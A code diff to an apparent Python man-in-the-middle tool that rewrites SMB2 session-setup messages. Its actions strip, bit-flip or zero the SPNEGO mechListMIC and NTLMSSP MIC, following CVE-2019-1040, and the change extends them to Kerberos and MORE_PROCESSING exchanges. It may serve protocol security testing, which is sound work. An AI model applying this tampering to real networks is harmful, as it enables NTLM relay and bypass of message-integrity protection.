@@ -6,8 +6,9 @@ middle would: MS-SPNG 3.1.5.1, CVE-2019-1040 "drop the MIC").
 edit_session_setup(pdu, to_server, action) returns (new_pdu, what) or
 (pdu, None) when the message is not the one the action applies to:
   strip-mechmic   remove the mechListMIC [3] from the negTokenResp
-                  (to_server: the request carrying NTLMSSP AUTHENTICATE;
-                   else: the successful final response)
+                  (to_server: the request that carries one - NTLMSSP
+                   AUTHENTICATE, or the third leg after Kerberos; else: the
+                   response that carries one, final or MORE_PROCESSING)
   flip-mechmic    flip one bit of that mechListMIC
   zero-ntlm-mic   zero the 16-byte MIC of the NTLMSSP AUTHENTICATE (request)
 Only 64-byte SMB2 headers of single (non-compound) messages are handled.
@@ -95,11 +96,11 @@ def edit_session_setup(pdu, to_server, action):
     nxt, = struct.unpack_from("<I", pdu, 20)
     if cmd != 1 or nxt != 0:
         return pdu, None
-    if not to_server and status != 0:
+    if not to_server and status not in (0, 0xC0000016):
         return pdu, None
     off, ln = sec_buffer(pdu, to_server)
     tok = bytes(pdu[off:off + ln])
-    if to_server and NTLMSSP_AUTH not in tok:
+    if action == "zero-ntlm-mic" and NTLMSSP_AUTH not in tok:
         return pdu, None
     if action == "zero-ntlm-mic":
         if not to_server:
